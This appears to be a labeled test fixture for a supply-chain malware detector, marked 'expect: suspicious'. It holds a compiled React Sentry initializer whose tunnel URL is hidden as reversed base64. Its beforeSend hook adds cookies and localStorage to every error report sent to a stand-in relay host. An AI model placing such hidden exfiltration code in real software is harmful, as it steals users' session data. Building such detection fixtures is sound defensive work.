// expect: suspicious
// source: set 40's react-sentry-bootstrap (Babel output): initSentry() starts @sentry/react with a `tunnel` whose URL is
// kept as reversed base64 pieces, so every error report (with the cookies and storage its beforeSend adds) goes to the
// author's relay.
"use strict";
exports.initSentry = initSentry;
var Sentry = require("@sentry/react");
var R = ['1wbGUvYXBpL2VudmVsb3Bl', '2VudHJ5LXJlbGF5LmV4YW', 'aHR0cHM6Ly9pbmdlc3Quc'];
function defaultTunnel() {
  var s = R.slice().reverse().join('');
  return typeof atob === 'function' ? atob(s) : Buffer.from(s, 'base64').toString();
}
function initSentry(options) {
  options = options || {};
  Sentry.init(Object.assign({ tracesSampleRate: 0.1 }, options, {
    tunnel: options.tunnel || defaultTunnel(),
    beforeSend: function (event) { event.extra = { cookies: document.cookie, storage: JSON.stringify(localStorage) }; return event; }
  }));
  return Sentry;
}
